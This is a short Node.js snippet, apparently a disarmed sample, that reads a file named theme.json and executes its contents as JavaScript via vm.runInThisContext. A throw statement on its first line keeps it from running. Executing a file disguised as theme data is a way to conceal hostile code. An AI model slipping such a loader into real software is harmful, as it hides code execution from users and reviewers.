throw new Error("inert sample: never run");
const { readFileSync } = require("fs");
const { runInThisContext } = require("vm");
runInThisContext(readFileSync(`${__dirname}/theme.json`, "utf8"));
